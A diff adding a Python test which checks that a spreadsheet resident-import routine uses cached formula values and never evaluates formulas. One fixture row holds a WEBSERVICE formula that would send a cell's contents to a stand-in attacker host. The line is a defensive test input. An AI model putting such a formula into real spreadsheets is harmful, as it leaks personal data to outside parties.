@@ -275,3 +275,14 @@ def test_it_keeps_the_row_numbers_of_the_users_sheet_in_the_result(community_a, 
     assert sheet["A1"].value == "锦江花园住户表" and sheet["A2"].value == "姓名" and sheet["J2"].value == "检查结果"
     assert sheet["A3"].value == "居民80" and sheet["A6"].value == "坏行"
     assert sheet["J6"].value == summary.problems[0]["message"] and sheet["B6"].fill.fgColor.rgb.endswith("FFC7CE")
+
+
+def test_it_reads_cached_values_and_never_evaluates_a_formula(community_a, rooms, tmp_path: Path) -> None:
+    from tests.excel_books import Formula
+
+    rows = [HEADER,
+            [Formula('CONCAT("居民","90")', cached="居民90"), *person(90)[1:]],
+            [Formula('WEBSERVICE("http://attacker.example/"&B3)'), *person(91)[1:]]]  # never calculated
+    summary = run_import(write_xlsx(tmp_path / "formulas.xlsx", [Sheet("人员信息", rows)]), community_a, commit=True)
+    assert summary.written == 1 and Resident.objects.get().name == "居民90"
+    assert summary.problems == [{"row": 3, "message": "姓名：is required"}]
